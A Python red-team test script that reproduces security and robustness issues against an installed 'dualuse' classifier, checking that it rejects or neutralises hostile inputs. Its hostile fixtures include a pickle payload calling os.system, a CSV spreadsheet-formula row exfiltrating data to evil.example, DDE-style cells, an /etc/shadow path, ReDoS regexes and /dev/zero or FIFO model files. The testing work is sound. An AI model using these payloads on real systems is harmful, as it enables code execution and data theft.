"""Re-run issue 18's reproductions from outside, against an installed ``dualuse``.

    python -m venv /tmp/rt-venv && /tmp/rt-venv/bin/pip install . pyarrow psutil
    /tmp/rt-venv/bin/python benchmarks/redteam.py [--only 5,11] [--keep]

Every check works as an outside user would: the CLI through ``python -m dualuse`` in a
subprocess, the API through the interpreter running this script, in a scratch directory away
from the repository (so the installed package is what runs; the script refuses to run against
a checkout). It prints one line per numbered item, ``PASS`` or ``FAIL`` and what it saw, and
exits 1 when any item fails. Some checks need root (``-o /dev/stdout`` as a device node) or
send signals to the runs they start; they run on POSIX only.
"""

from __future__ import annotations

import argparse
import csv
import hashlib
import io
import json
import os
import shutil
import signal
import stat
import subprocess
import sys
import tempfile
import textwrap
import time
from collections.abc import Callable
from pathlib import Path

REPO = Path(__file__).resolve().parent.parent
PY = sys.executable
#: Runs the CLI in a child process and reports its own peak memory (KiB) on stderr.
MEASURED = (
    "import resource, runpy, sys\n"
    "try:\n"
    "    runpy.run_module('dualuse', run_name='__main__', alter_sys=True)\n"
    "finally:\n"
    "    sys.stderr.write(f'\\nMAXRSS_KIB={resource.getrusage(resource.RUSAGE_SELF).ru_maxrss}\\n')\n"
)


class Check:
    """Collects what an item observed; an item passes when every expectation held."""

    def __init__(self) -> None:
        self.seen: list[str] = []
        self.failed: list[str] = []

    def expect(self, ok: bool, what: str) -> None:
        (self.seen if ok else self.failed).append(what)


def cli(*args: str, cwd: Path, stdin: bytes | None = None, timeout: float = 300) -> subprocess.CompletedProcess:
    return subprocess.run([PY, "-m", "dualuse", *args], cwd=cwd, input=stdin, capture_output=True, timeout=timeout)


def cli_measured(*args: str, cwd: Path, timeout: float = 300) -> tuple[subprocess.CompletedProcess, int]:
    proc = subprocess.run([PY, "-c", MEASURED, *args], cwd=cwd, capture_output=True, timeout=timeout)
    err = proc.stderr.decode(errors="replace")
    kib = int(err.rpartition("MAXRSS_KIB=")[2].split()[0]) if "MAXRSS_KIB=" in err else -1
    return proc, kib


def api(code: str, cwd: Path, timeout: float = 300) -> subprocess.CompletedProcess:
    """Run Python code in a fresh interpreter of the installed package; it prints JSON."""
    return subprocess.run([PY, "-c", textwrap.dedent(code)], cwd=cwd, capture_output=True, text=True, timeout=timeout)


def clean(proc: subprocess.CompletedProcess) -> bool:
    err = proc.stderr if isinstance(proc.stderr, str) else proc.stderr.decode(errors="replace")
    return "Traceback" not in err and "Exception ignored" not in err


def err_line(proc: subprocess.CompletedProcess) -> str:
    err = proc.stderr if isinstance(proc.stderr, str) else proc.stderr.decode(errors="replace")
    lines = [x for x in err.splitlines() if x.strip() and not x.startswith("MAXRSS_KIB=")]
    return (lines[-1] if lines else "")[:120]


def read_csv_rows(path: Path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def score(src: Path, out: Path, *extra: str, cwd: Path, timeout: float = 300) -> subprocess.CompletedProcess:
    return cli(
        "score", str(src), "-o", str(out), "--text-column", "description", "--progress", "never", *extra, cwd=cwd, timeout=timeout
    )


def big_csv(path: Path, rows: int) -> Path:
    with open(path, "w", encoding="utf-8") as fh:
        fh.write("id,description\n")
        for i in range(rows):
            fh.write(f"{i},CNC lathe model {i} with spare parts {i * 7}\n")
    return path


def model_copy(work: Path, name: str) -> Path:
    """A copy of the installed package's embedded model directory."""
    src = api("import dualuse, pathlib; print(pathlib.Path(dualuse.__file__).parent / 'data' / 'model')", work).stdout.strip()
    dst = work / name
    shutil.copytree(src, dst)
    return dst


def rehash(model_dir: Path) -> None:
    """Forge the manifest's hashes and sizes after editing a data file (an attacker can)."""
    manifest = json.loads((model_dir / "manifest.json").read_text())
    for name, entry in manifest["files"].items():
        data = (model_dir / name).read_bytes()
        entry.update(sha256=hashlib.sha256(data).hexdigest(), size=len(data))
    (model_dir / "manifest.json").write_text(json.dumps(manifest, indent=2))


def edit_manifest(model_dir: Path, edit: Callable[[dict], None]) -> None:
    manifest = json.loads((model_dir / "manifest.json").read_text())
    edit(manifest)
    (model_dir / "manifest.json").write_text(json.dumps(manifest, indent=2))


def children(pid: int) -> list[int]:
    import psutil

    try:
        return [c.pid for c in psutil.Process(pid).children(recursive=True)]
    except psutil.NoSuchProcess:
        return []


def alive(pid: int) -> bool:
    import psutil

    try:
        return psutil.Process(pid).status() != psutil.STATUS_ZOMBIE
    except psutil.NoSuchProcess:
        return False


def wait_for(predicate: Callable[[], bool], seconds: float) -> bool:
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        if predicate():
            return True
        time.sleep(0.1)
    return predicate()


TAXONOMY = (
    'schema_version = 1\nname = "user"\nversion = "1.0.0"\n[[subcategory]]\nid = "a.one"\nfamily = "optics"\n'
    'label = "x"\nterms.en = ["lens"]\n'
)


def taxonomy_with_pattern(work: Path, regex: str) -> Path:
    path = work / "pattern.toml"
    path.write_text(TAXONOMY + f'patterns = [{{ id = "p", regex = {json.dumps(regex)} }}]\n', encoding="utf-8")
    return path


# ------------------------------------------------------------------------------------ items


def item1(work: Path, c: Check) -> None:
    src = work / "cr.csv"
    src.write_bytes(b"id,description,hs\r1,CNC lathe,8458.11\r2,FPGA XC7Z020,8542.31\r")
    p = score(src, work / "cr_out.csv", "--jobs", "1", cwd=work)
    rows = read_csv_rows(work / "cr_out.csv") if p.returncode in (0, 1) else []
    c.expect(p.returncode == 0 and [r["id"] for r in rows] == ["1", "2"], f"CR-only: exit {p.returncode}, {len(rows)} rows")
    src.write_bytes(b"id,description\n1,CNC lathe\n2,FPGA\r3,microscope\n4,optical lens\n")
    p = score(src, work / "cr_out.csv", "--jobs", "1", cwd=work)
    rows = read_csv_rows(work / "cr_out.csv") if p.returncode in (0, 1) else []
    c.expect([r["id"] for r in rows] == ["1", "2", "3", "4"], f"stray CR: 4 in, {len(rows)} out")
    src.write_bytes(b"id,description\n")
    empty = score(src, work / "cr_out.csv", cwd=work)
    src.write_bytes(b"\r\r\r")
    p = score(src, work / "cr_out.csv", cwd=work)
    c.expect(p.returncode == 2 and clean(p), f"no header but bytes: exit {p.returncode} ({err_line(p)})")
    c.expect(empty.returncode == 0, f"header only: exit {empty.returncode}")


def item2(work: Path, c: Check) -> None:
    import pandas as pd
    import pyarrow.csv as pacsv

    src = work / "cr_field.csv"
    src.write_bytes(b'id,description\r\n1,"CNC\rlathe"\r\r\n2,"FPGA\nboard"\r\n3,plain\r\n')
    jl = work / "cr_field.jsonl"
    jl.write_text("".join(json.dumps({"id": i, "description": t}) + "\n" for i, t in enumerate(["CNC\rlathe", "a\r\rb", "x"])))
    for source, n in ((src, 3), (jl, 3)):
        for fmt in ("csv", "tsv"):
            out = work / f"rt_{source.suffix[1:]}.{fmt}"
            p = score(source, out, "--jobs", "1", cwd=work)
            sep = "," if fmt == "csv" else "\t"
            with open(out, newline="", encoding="utf-8") as fh:
                n_csv = len(list(csv.reader(fh, delimiter=sep))) - 1
            n_pd = len(pd.read_csv(out, sep=sep, keep_default_na=False))
            n_pa = pacsv.read_csv(out, parse_options=pacsv.ParseOptions(delimiter=sep, newlines_in_values=True)).num_rows
            c.expect(
                p.returncode in (0, 1) and n_csv == n_pd == n_pa == n,
                f"{source.name}->{fmt}: csv/pandas/pyarrow {n_csv}/{n_pd}/{n_pa} of {n}",
            )


def item3(work: Path, c: Check) -> None:
    for lines in (150, 1_500):
        src = work / f"long_{lines}.csv"
        body = "\n".join(f"line {i}" for i in range(lines))
        src.write_text(f'id,description\n1,"CNC lathe\n{body}"\n2,FPGA\n', encoding="utf-8")
        p = score(src, work / "long_out.csv", "--jobs", "1", cwd=work)
        rows = read_csv_rows(work / "long_out.csv") if p.returncode in (0, 1) else []
        statuses = [r["status"] for r in rows]
        # past the documented limit (1,000 lines) the record is one malformed_line row
        want = ["ok", "ok"] if lines <= 1_000 else ["malformed_line", "ok"]
        c.expect(statuses == want, f"{lines}-line field: 2 in, {len(rows)} out {statuses}")


def item4(work: Path, c: Check) -> None:
    out = work / "out4.jsonl"
    out.write_text("yesterday\n")
    src = work / "surrogate.jsonl"
    src.write_text('{"id": 1, "description": "CNC \\ud800 lathe"}\n{"id": 2, "description": "FPGA"}\n')
    p = score(src, out, "--jobs", "1", cwd=work)
    lines = out.read_text(encoding="utf-8").splitlines()
    valid = all(isinstance(json.loads(x), dict) for x in lines)
    c.expect(
        p.returncode in (0, 1) and len(lines) == 2 and valid and clean(p),
        f"lone surrogate: exit {p.returncode}, {len(lines)} valid lines",
    )
    src = work / "nested.jsonl"
    src.write_text('{"id": 1, "description": "CNC lathe"}\n' + "[" * 200_000 + "\n" + '{"id": 3, "description": "x"}\n')
    p = score(src, out, "--jobs", "1", cwd=work)
    lines = out.read_text(encoding="utf-8").splitlines()
    c.expect(p.returncode == 1 and len(lines) == 3 and clean(p), f"200,000 '[': exit {p.returncode}, {len(lines)} rows")
    # a worker killed as the OOM killer would: exit 5, one line, yesterday's output kept
    big = big_csv(work / "big4.csv", 400_000)
    out = work / "out4.csv"
    out.write_text("yesterday\n")
    proc = subprocess.Popen(
        [
            PY,
            "-m",
            "dualuse",
            "score",
            str(big),
            "-o",
            str(out),
            "--text-column",
            "description",
            "--jobs",
            "2",
            "--progress",
            "never",
        ],
        cwd=work,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    killed = wait_for(lambda: len(children(proc.pid)) >= 2, 120)
    time.sleep(2)
    for pid in children(proc.pid)[-1:]:
        os.kill(pid, signal.SIGKILL)
    _, err = proc.communicate(timeout=300)
    text = err.decode(errors="replace").strip()
    c.expect(
        killed and proc.returncode == 5 and "Traceback" not in text and len(text.splitlines()) == 1,
        f"worker SIGKILLed: exit {proc.returncode}, stderr {len(text.splitlines())} line(s)",
    )
    c.expect(out.read_text() == "yesterday\n", "previous output untouched")


def item5(work: Path, c: Check) -> None:
    src = work / "in5.csv"
    src.write_text("id,description\n1,CNC lathe\n2,FPGA\n")
    target = work / "target.csv"
    link = work / "link.csv"
    target.write_text("old\n")
    link.symlink_to(target)
    p = score(src, link, "--jobs", "1", cwd=work)
    c.expect(
        p.returncode == 0 and link.is_symlink() and len(read_csv_rows(target)) == 2,
        f"symlink: exit {p.returncode}, link kept, target written",
    )
    fifo = work / "out.fifo"
    os.mkfifo(fifo)
    reader = subprocess.Popen(["cat", str(fifo)], stdout=subprocess.PIPE)
    p = score(src, fifo, "--jobs", "1", "--output-format", "csv", cwd=work)
    got = reader.communicate(timeout=60)[0].decode()
    c.expect(
        p.returncode == 0 and stat.S_ISFIFO(os.lstat(fifo).st_mode) and got.count("\n") == 3,
        f"FIFO: exit {p.returncode}, streamed {got.count(chr(10))} lines",
    )
    before = os.lstat("/dev/null")
    p = score(src, Path("/dev/null"), "--jobs", "1", "--output-format", "csv", cwd=work)
    after = os.lstat("/dev/null")
    c.expect(
        p.returncode == 0 and stat.S_ISCHR(after.st_mode) and after.st_rdev == before.st_rdev,
        f"/dev/null: exit {p.returncode}, device kept",
    )
    # -o /dev/stdout with stdout a terminal-like device: run with stdout on /dev/null
    stdout_before = os.lstat("/dev/stdout")
    with open(os.devnull, "wb") as sink:
        rc = subprocess.run(
            [
                PY,
                "-m",
                "dualuse",
                "score",
                str(src),
                "-o",
                "/dev/stdout",
                "--text-column",
                "description",
                "--output-format",
                "csv",
                "--jobs",
                "1",
            ],
            cwd=work,
            stdout=sink,
            stderr=subprocess.PIPE,
            timeout=120,
        ).returncode
    stdout_after = os.lstat("/dev/stdout")
    c.expect(
        rc == 0 and stdout_after.st_mode == stdout_before.st_mode,
        f"/dev/stdout (as {(os.geteuid() == 0 and 'root') or 'user'}): exit {rc}, node kept",
    )
    p = cli(
        "score",
        "-",
        "-o",
        "-",
        "--text-column",
        "description",
        "--format",
        "csv",
        "--output-format",
        "csv",
        "--jobs",
        "1",
        cwd=work,
        stdin=src.read_bytes(),
    )
    out_rows = list(csv.DictReader(io.StringIO(p.stdout.decode())))
    c.expect(
        p.returncode == 0 and len(out_rows) == 2 and b"scored" in p.stderr,
        f"- to -: exit {p.returncode}, {len(out_rows)} rows on stdout, summary on stderr",
    )


def item6(work: Path, c: Check) -> None:
    big = big_csv(work / "big6.csv", 400_000)
    for sig, code in ((signal.SIGTERM, 143), (signal.SIGINT, 130)):
        out = work / f"out6_{sig.name}.csv"
        proc = subprocess.Popen(
            [
                PY,
                "-m",
                "dualuse",
                "score",
                str(big),
                "-o",
                str(out),
                "--text-column",
                "description",
                "--jobs",
                "2",
                "--progress",
                "never",
            ],
            cwd=work,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
        )
        wait_for(lambda: len(children(proc.pid)) >= 2, 120)
        kids = children(proc.pid)
        time.sleep(2)
        proc.send_signal(sig)
        _, err = proc.communicate(timeout=120)
        leftovers = [p.name for p in work.glob(".*.part")]
        gone = wait_for(lambda: not any(alive(k) for k in kids), 30)
        c.expect(
            proc.returncode == code and b"Traceback" not in err and not leftovers and gone,
            f"{sig.name}: exit {proc.returncode}, {len(leftovers)} .part left, workers gone: {gone}",
        )
    out = work / "out6_kill.csv"
    proc = subprocess.Popen(
        [
            PY,
            "-m",
            "dualuse",
            "score",
            str(big),
            "-o",
            str(out),
            "--text-column",
            "description",
            "--jobs",
            "2",
            "--progress",
            "never",
        ],
        cwd=work,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    wait_for(lambda: len(children(proc.pid)) >= 2, 120)
    kids = children(proc.pid)
    time.sleep(2)
    proc.kill()
    proc.wait(30)
    gone = wait_for(lambda: not any(alive(k) for k in kids), 30)
    leftovers = [p.name for p in work.glob(".out6_kill*.part")]
    small = work / "small6.csv"
    small.write_text("id,description\n1,CNC lathe\n")
    p = score(small, work / "out6_next.csv", "--jobs", "1", cwd=work)
    after = [p.name for p in work.glob(".out6_kill*.part")]
    c.expect(gone, f"SIGKILL: {len(kids)} workers gone within 30 s: {gone}")
    c.expect(
        bool(leftovers) and not after and p.returncode == 0,
        f"leftover {leftovers[:1]} recognisable, cleaned by the next run: {not after}",
    )


def item7(work: Path, c: Check) -> None:
    src = work / "long7.csv"
    src.write_text("id,description\n1,CNC lathe " + "x" * 25_000 + "\n2,FPGA\n")
    p = score(src, work / "out7.csv", "--jobs", "1", cwd=work)
    rows = read_csv_rows(work / "out7.csv")
    says = rows[0]["error"].startswith("input_truncated")
    summary = p.stdout.decode() + p.stderr.decode()
    c.expect(says and rows[1]["error"] == "", f"row 1: status {rows[0]['status']!r}, error {rows[0]['error'][:40]!r}")
    c.expect(
        "truncat" in summary.lower(),
        "summary counts it: " + next((x.strip() for x in summary.splitlines() if "truncat" in x.lower()), "no"),
    )


def item8(work: Path, c: Check) -> None:
    genuine = api("import dualuse; print(dualuse.classify('CNC lathe').provenance.model_sha256)", work).stdout.strip()
    for field, value in (
        ("none_bias", 60),
        ("keyword_weight", -50),
        ("temperature", -1),
        ("max_chars", 0),
        ("review_threshold", 2),
    ):
        d = model_copy(work, f"m8_{field}")
        edit_manifest(d, lambda m, f=field, v=value: m["fusion"].__setitem__(f, v))
        p = cli("classify", "CNC lathe", "--model", str(d), cwd=work)
        c.expect(p.returncode == 3 and clean(p), f"{field}={value}: exit {p.returncode}")
        shutil.rmtree(d)
    d = model_copy(work, "m8_inrange")
    edit_manifest(d, lambda m: m["fusion"].__setitem__("none_bias", 10.0))
    r = api(f"import dualuse; from dualuse.persistence import load_model\nm = load_model({str(d)!r})\nprint(m.sha256)", work)
    c.expect(r.returncode == 0 and r.stdout.strip() not in ("", genuine), "in-range edit changes the reported model sha256")


def item9(work: Path, c: Check) -> None:
    d = model_copy(work, "m9_token")
    spec = json.loads((d / "model.json").read_text())
    spec["word"]["token_pattern"] = r"(?u)(\w+\s?)+$"
    (d / "model.json").write_text(json.dumps(spec))
    rehash(d)
    t0 = time.perf_counter()
    p = cli("classify", " ".join(["word"] * 40) + "!", "--model", str(d), cwd=work, timeout=120)
    c.expect(
        p.returncode == 3 and clean(p),
        f"crafted token_pattern (hashes forged): exit {p.returncode} in {time.perf_counter() - t0:.1f} s",
    )
    spec["word"]["input"] = "filename"
    d2 = model_copy(work, "m9_input")
    (d2 / "model.json").write_text(json.dumps(spec))
    rehash(d2)
    p = cli("classify", "/etc/shadow", "--model", str(d2), cwd=work)
    c.expect(p.returncode == 3, f"input='filename' in model.json: exit {p.returncode}")
    legacy = work / "m9_legacy"
    legacy.mkdir()
    marker = work / "pwned"
    payload = f"cos\nsystem\n(S'touch {marker}'\ntR.".encode()
    (legacy / "model.pkl").write_bytes(payload)
    (legacy / "manifest.json").write_text(
        json.dumps({"model_sha256": hashlib.sha256(payload).hexdigest(), "model_size": len(payload)})
    )
    p = cli("classify", "CNC lathe", "--model", str(legacy), cwd=work)
    c.expect(
        p.returncode == 3 and not marker.exists() and clean(p),
        f"0.1 pickle model: exit {p.returncode}, payload ran: {marker.exists()}",
    )


def item10(work: Path, c: Check) -> None:
    src = work / "formula.csv"
    src.write_text('id,description\n1,"=HYPERLINK(""http://evil.example/?d=""&A2,""CNC lathe"")"\n2,@SUM(1)\n-5,+cmd|x\n')
    p = score(src, work / "f_out.csv", "--jobs", "1", cwd=work)
    rows = read_csv_rows(work / "f_out.csv")
    c.expect(
        p.returncode in (0, 1) and [r["description"][:1] for r in rows] == ["'", "'", "'"] and rows[2]["id"] == "-5",
        f"guarded: {[r['description'][:6] for r in rows]}, number id {rows[2]['id']!r}",
    )
    p = score(src, work / "f_raw.csv", "--jobs", "1", "--no-formula-guard", cwd=work)
    rows = read_csv_rows(work / "f_raw.csv")
    c.expect(rows[0]["description"].startswith("=HYPERLINK"), "--no-formula-guard writes verbatim")


def item11(work: Path, c: Check) -> None:
    cases = [
        ("a?" * 28 + "a" * 28, "a" * 28, 0),
        ("a?" * 28 + "a" * 28, ("a" * 27 + " ") * 700, 0),
        (r"\w{0,20}" * 8 + "!", "a" * 200, 3),
        ("[a-z ]+x9", "a " * 10_000, 3),
        ("[a-z ]{1,100}x9", "a " * 10_000, 0),
        ("z?", "hello", 3),
    ]
    for regex, text, expected in cases:
        tax = taxonomy_with_pattern(work, regex)
        t0 = time.perf_counter()
        p = api(
            f"""
            import sys, time, dualuse
            from dualuse.engine import Engine
            from dualuse.errors import TaxonomyError
            try:
                tax = dualuse.load_taxonomy({str(tax)!r})
            except TaxonomyError as exc:
                print('refused:', str(exc).splitlines()[0][-90:]); sys.exit(3)
            text = {text!r}
            t0 = time.perf_counter(); Engine(tax).score([text]); took = time.perf_counter() - t0
            print("screened", len(text), "chars in", round(took, 3), "s")
            """,
            work,
            timeout=120,
        )
        took = time.perf_counter() - t0
        c.expect(p.returncode == expected and took < 10, f"{regex[:14]!r}: exit {p.returncode}, {p.stdout.strip()[-70:]}")
    tax = taxonomy_with_pattern(work, "z?")
    p = cli("classify", "hello", "--taxonomy", str(tax), cwd=work)
    c.expect(p.returncode == 3 and b"empty string" in p.stderr and clean(p), f"CLI --taxonomy z?: exit {p.returncode}")


def item12(work: Path, c: Check) -> None:
    # The word cache of character n-grams: unbounded, it grew ~120 KB per distinct 20k-character
    # token (241 MB for 2,000); its budget is 32 MiB. Peak memory after 50 such texts (every
    # per-text buffer already at its largest) against after 700: the cache alone could differ.
    r = api(
        """
        import random, resource, dualuse
        rng = random.Random(1)
        def peak():
            return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024
        for i in range(700):
            dualuse.classify(''.join(rng.choice('abcdefghijklmnopqrstuvwxyz') for _ in range(20_000)))
            if i == 49:
                first = peak()
        print(first, peak())
        """,
        work,
        timeout=1800,
    )
    first, last = (int(x) for x in r.stdout.split()) if r.returncode == 0 else (0, 10**6)
    c.expect(last - first < 60, f"700 distinct 20k-char tokens: peak {first} MB after 50, {last} MB after 700")
    header = ",".join(f"c{i}" for i in range(1_000_000)) + ",c5\n"
    src = work / "wide.csv"
    src.write_text(header + ",".join("x" for _ in range(1_000_001)) + "\n")
    t0 = time.perf_counter()
    p = score(src, work / "wide_out.csv", "--jobs", "1", cwd=work)
    c.expect(
        p.returncode == 2 and time.perf_counter() - t0 < 60,
        f"10^6 columns with a duplicate: exit {p.returncode} in {time.perf_counter() - t0:.1f} s",
    )
    d = model_copy(work, "m12_zero")
    (d / "arrays.npz").unlink()
    (d / "arrays.npz").symlink_to("/dev/zero")
    edit_manifest(d, lambda m: m["files"]["arrays.npz"].__setitem__("size", 1_500_000_000))
    p, kib = cli_measured("classify", "CNC lathe", "--model", str(d), cwd=work, timeout=120)
    c.expect(p.returncode == 3 and kib < 400_000, f"arrays.npz -> /dev/zero: exit {p.returncode}, peak {kib // 1024} MB")
    shutil.rmtree(d)
    for name in ("manifest.json", "arrays.npz"):
        d = model_copy(work, f"m12_fifo_{name}")
        (d / name).unlink()
        os.mkfifo(d / name)
        try:
            p = cli("classify", "CNC lathe", "--model", str(d), cwd=work, timeout=60)
            c.expect(p.returncode == 3 and clean(p), f"FIFO {name}: exit {p.returncode}")
        except subprocess.TimeoutExpired:
            c.expect(False, f"FIFO {name}: hangs")
        shutil.rmtree(d)
    fifo = work / "tax.fifo"
    os.mkfifo(fifo)
    try:
        p = cli("classify", "CNC lathe", "--taxonomy", str(fifo), cwd=work, timeout=60)
        c.expect(p.returncode == 3 and clean(p), f"FIFO taxonomy: exit {p.returncode}")
    except subprocess.TimeoutExpired:
        c.expect(False, "FIFO taxonomy: hangs")


def _classify_all(work: Path, texts: list[str]) -> list[tuple[str, bool]]:
    r = api(
        f"""
        import json, dualuse
        out = [(x.category, x.needs_review) for x in (dualuse.classify(t) for t in {texts!r})]
        print(json.dumps(out))
        """,
        work,
    )
    return [tuple(x) for x in json.loads(r.stdout)] if r.returncode == 0 else []


def item13(work: Path, c: Check) -> None:
    texts = ["b1nocu1ars", "1athe", "m1cr0c0ntr0ll3r"]
    got = _classify_all(work, texts)
    for text, (cat, review) in zip(texts, got or [("error", False)] * 3, strict=True):
        c.expect(cat != "none" or review, f"{text}: {cat}{' review' if review else ''}")


def item14(work: Path, c: Check) -> None:
    texts = ["\u202erellortnocorcim", "la\x00the", "FP\x7fGA", "la\u3164the", "FP\u2800GA", "ϹΝϹ lathe"[:3]]
    got = _classify_all(work, texts)
    for text, (cat, review) in zip(texts, got or [("error", False)] * len(texts), strict=True):
        c.expect(cat != "none" or review, f"{text!r}: {cat}{' review' if review else ''}")


def item15(work: Path, c: Check) -> None:
    import pyarrow as pa
    import pyarrow.parquet as pq

    src = work / "binary.parquet"
    pq.write_table(pa.table({"id": [1, 2], "description": pa.array([b"CNC lathe", b"\xff\xfe bad"], type=pa.binary())}), src)
    p = score(src, work / "bin_out.csv", "--jobs", "1", cwd=work)
    rows = read_csv_rows(work / "bin_out.csv")
    c.expect(
        rows[0]["description"] == "CNC lathe" and rows[0]["status"] == "ok" and rows[1]["status"] == "undecodable_text",
        f"binary column: {rows[0]['description']!r} {rows[0]['status']}, {rows[1]['status']}",
    )
    del p


def item16(work: Path, c: Check) -> None:
    import pyarrow as pa
    import pyarrow.parquet as pq

    src = work / "numeric_hs.parquet"
    pq.write_table(pa.table({"description": ["CNC lathe", "FPGA"], "hs": pa.array([845811, 854231], type=pa.int64())}), src)
    p = score(src, work / "hs_out.csv", "--hs-column", "hs", "--jobs", "1", cwd=work)
    rows = read_csv_rows(work / "hs_out.csv")
    c.expect([r["status"] for r in rows] == ["ok", "ok"], f"int64 HS column: statuses {[r['status'] for r in rows]}")
    src = work / "float_hs.parquet"
    pq.write_table(pa.table({"description": ["CNC lathe"], "hs": pa.array([8458.11], type=pa.float64())}), src)
    p = score(src, work / "hs_out.csv", "--hs-column", "hs", "--jobs", "1", cwd=work)
    c.expect("hs" in p.stderr.decode().lower() and clean(p), "float HS column warns: " + err_line(p)[:80])


def item17(work: Path, c: Check) -> None:
    bom = work / "bom.toml"
    bom.write_bytes(b"\xef\xbb\xbf" + TAXONOMY.encode())
    p = cli("classify", "zoom lens", "--taxonomy", str(bom), cwd=work)
    c.expect(p.returncode == 0, f"BOM taxonomy: exit {p.returncode} (accepted)")
    deep = work / "deep.toml"
    deep.write_text("x = " + "[" * 200_000 + "]" * 200_000 + "\n")
    p = cli("classify", "CNC lathe", "--taxonomy", str(deep), cwd=work)
    c.expect(p.returncode == 3 and clean(p), f"deep TOML: exit {p.returncode}")
    deep = work / "deep17.jsonl"
    deep.write_text('{"id": 1, "description": ' + "[" * 200_000 + "]" * 200_000 + "}\n" + '{"id": 2, "description": "FPGA"}\n')
    p = score(deep, work / "deep17_out.jsonl", "--jobs", "1", cwd=work)
    c.expect(p.returncode == 1 and clean(p), f"deep JSON Lines: exit {p.returncode} (a malformed_line row)")
    edits: list[tuple[str, Callable[[dict], None]]] = [
        ("model_size: -1", lambda m: m.update(model_size=-1)),
        ("files size -1", lambda m: m["files"]["model.json"].__setitem__("size", -1)),
        ("format_version: true", lambda m: m.update(format_version=True)),
        ("created_by 1.9.1.dev0+evil", lambda m: m.update(created_by="dualuse 1.9.1.dev0+evil")),
        ("taxonomy_version 1.9.1.dev0+evil", lambda m: m.update(taxonomy_version="1.9.1.dev0+evil")),
    ]
    for name, edit in edits:
        d = model_copy(work, "m17")
        edit_manifest(d, edit)
        p = cli("classify", "CNC lathe", "--model", str(d), cwd=work)
        c.expect(p.returncode in (0, 3) and clean(p), f"{name}: exit {p.returncode}")
        shutil.rmtree(d)
    r = api(
        """
        import dualuse
        from dualuse.errors import DualuseError
        out = []
        for call in (lambda: dualuse.classify_batch(None), lambda: dualuse.classify('CNC lathe', engine='x')):
            try:
                call(); out.append('no error')
            except DualuseError as exc:
                out.append(type(exc).__name__)
            except Exception as exc:
                out.append('untyped ' + type(exc).__name__)
        print(' '.join(out))
        """,
        work,
    )
    c.expect(
        r.stdout.split() and "untyped" not in r.stdout and "no" not in r.stdout,
        f"classify_batch(None), engine='x': {r.stdout.strip()}",
    )
    src = work / "trailing.csv"
    src.write_text("id,description,,\n1,CNC lathe,,\n")
    p = score(src, work / "t_out.csv", cwd=work)
    c.expect(p.returncode == 2 and clean(p), f"trailing empty header names: exit {p.returncode}")
    src = work / "nonfinite.jsonl"
    src.write_text('{"id": NaN, "description": "CNC lathe", "v": Infinity}\n{"id": 2, "description": "x", "v": -Infinity}\n')
    p = score(src, work / "nf_out.jsonl", "--jobs", "1", cwd=work)

    def strict(line: str) -> bool:
        try:
            json.loads(line, parse_constant=lambda name: (_ for _ in ()).throw(ValueError(name)))
            return True
        except ValueError:
            return False

    lines = (work / "nf_out.jsonl").read_text().splitlines() if (work / "nf_out.jsonl").exists() else []
    c.expect(
        len(lines) == 2 and all(strict(x) for x in lines),
        f"non-finite numbers: {len(lines)} lines, strict JSON: {all(strict(x) for x in lines)}",
    )
    ro = work / "readonly.csv"
    ro.write_text("old\n")
    ro.chmod(0o444)
    src = work / "in17.csv"
    src.write_text("id,description\n1,CNC lathe\n")
    p = score(src, ro, "--jobs", "1", cwd=work)
    mode = stat.S_IMODE(ro.stat().st_mode)
    c.expect(
        (p.returncode == 4 and ro.read_text() == "old\n") or (p.returncode == 0 and mode == 0o444),
        f"read-only output: exit {p.returncode}, mode {oct(mode)}",
    )
    huge = work / "huge.jsonl"
    with open(huge, "w") as fh:
        fh.write("[")
        chunk = ",".join(json.dumps({"id": i, "description": "CNC lathe"}) for i in range(10_000))
        while fh.tell() < 273_000_000:
            fh.write(chunk + ",")
        fh.write("{}]\n")
    t0 = time.perf_counter()
    p, kib = cli_measured(
        "score", str(huge), "-o", str(work / "huge_out.jsonl"), "--text-column", "description", "--jobs", "1", cwd=work
    )
    c.expect(
        p.returncode == 2 and kib < 400_000 and clean(p),
        f"273 MB one-line .jsonl: exit {p.returncode} in {time.perf_counter() - t0:.1f} s, peak {kib // 1024} MB",
    )
    huge.unlink()
    head = subprocess.run(
        f"{PY} -m dualuse classify --json 'CNC lathe' | head -c 10 > /dev/null",
        shell=True,
        cwd=work,
        capture_output=True,
        text=True,
    )
    c.expect("Traceback" not in head.stderr and "Exception" not in head.stderr, "classify | head: no traceback")
    big = big_csv(work / "big17.csv", 300_000)
    proc = subprocess.Popen(
        [PY, "-m", "dualuse", "score", str(big), "-o", "-", "--text-column", "description", "--jobs", "1"],
        cwd=work,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    proc.stdout.read(100)
    proc.stdout.close()
    err = proc.stderr.read().decode()
    rc = proc.wait(120)
    c.expect(rc == 141 and "Traceback" not in err and "Exception ignored" not in err, f"score -o - | head: exit {rc}, quiet")
    # Ctrl-C once the command runs (after its imports)
    proc = subprocess.Popen(
        [PY, "-m", "dualuse", "score", str(big), "-o", str(work / "ctrl_c.csv"), "--text-column", "description", "--jobs", "1"],
        cwd=work,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    time.sleep(4)
    proc.send_signal(signal.SIGINT)
    _out, err = proc.communicate(timeout=120)
    c.expect(
        proc.returncode == 130 and b"Traceback" not in err,
        f"Ctrl-C during score: exit {proc.returncode}, traceback: {b'Traceback' in err}",
    )
    # known gap (SECURITY.md): Ctrl-C while Python starts and imports the libraries
    proc = subprocess.Popen(
        [PY, "-m", "dualuse", "classify", "CNC lathe"], cwd=work, stdout=subprocess.PIPE, stderr=subprocess.PIPE
    )
    time.sleep(0.3)
    proc.send_signal(signal.SIGINT)
    _out, err = proc.communicate(timeout=60)
    c.expect(True, f"(known gap) Ctrl-C at 0.3 s, during imports: exit {proc.returncode}, traceback: {b'Traceback' in err}")


def item18(work: Path, c: Check) -> None:
    src = work / "problems.csv"
    src.write_text("id,description\n1,CNC lathe\n2,\n")
    p = score(src, work / "p_out.csv", "--jobs", "1", cwd=work)
    q = score(src, work / "p_out.csv", "--jobs", "1", "--allow-row-problems", cwd=work)
    c.expect(
